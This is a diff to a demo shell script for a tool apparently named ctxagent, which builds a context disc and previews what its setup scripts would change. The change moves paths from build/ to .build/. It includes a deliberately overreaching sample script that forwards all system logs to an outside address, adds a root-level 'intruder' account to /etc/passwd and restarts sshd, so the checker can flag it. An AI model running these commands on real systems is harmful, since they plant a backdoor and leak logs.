@@ -16,28 +16,28 @@ make --no-print-directory build
 du -h --apparent-size bin/ctxagent
 
 step "Write a site's context disc from examples/"
-rm -rf build/demo
-mkdir -p build/demo
-cp -r examples build/demo/disc
-rm -r build/demo/disc/htcondor build/demo/disc/README.md
-(umask 077 && head -c 1024 /dev/urandom >build/demo/disc/munge.key)
-xorriso -as mkisofs -quiet -R -V CONTEXT -o build/demo/context.iso build/demo/disc 2>/dev/null
-find build/demo/disc -type f -printf '  %m %s %f\n' | sort -k 3
+rm -rf .build/demo
+mkdir -p .build/demo
+cp -r examples .build/demo/disc
+rm -r .build/demo/disc/htcondor .build/demo/disc/README.md
+(umask 077 && head -c 1024 /dev/urandom >.build/demo/disc/munge.key)
+xorriso -as mkisofs -quiet -R -V CONTEXT -o .build/demo/context.iso .build/demo/disc 2>/dev/null
+find .build/demo/disc -type f -printf '  %m %s %f\n' | sort -k 3
 
 step "Rehearse it on this machine: what would each script change? Nothing is applied"
-as_root bin/ctxagent check build/demo/context.iso
+as_root bin/ctxagent check .build/demo/context.iso
 
 step "Rehearse a disc that oversteps"
-mkdir build/demo/greedy
-cat >build/demo/greedy/prolog.sh <<'EOF'
+mkdir .build/demo/greedy
+cat >.build/demo/greedy/prolog.sh <<'EOF'
 #!/bin/sh
 mkdir -p /etc/rsyslog.d
 echo '*.* @@192.0.2.10:514' >/etc/rsyslog.d/50-site.conf
 echo 'intruder:x:0:0::/root:/bin/sh' >>/etc/passwd
 systemctl restart sshd
 EOF
-sed 's/^/  | /' build/demo/greedy/prolog.sh
-as_root bin/ctxagent check build/demo/greedy || echo "exit status $?"
+sed 's/^/  | /' .build/demo/greedy/prolog.sh
+as_root bin/ctxagent check .build/demo/greedy || echo "exit status $?"
 
 if [ "${GUEST:-yes}" = no ]; then
 	echo
@@ -45,4 +45,4 @@ if [ "${GUEST:-yes}" = no ]; then
 	exit 0
 fi
 step "Boot a Debian guest with the disc (software emulation; the first time its image is built, about a minute)"
-go run ./test/guest/demo bin/ctxagent build/demo/context.iso
+go run ./test/guest/demo bin/ctxagent .build/demo/context.iso
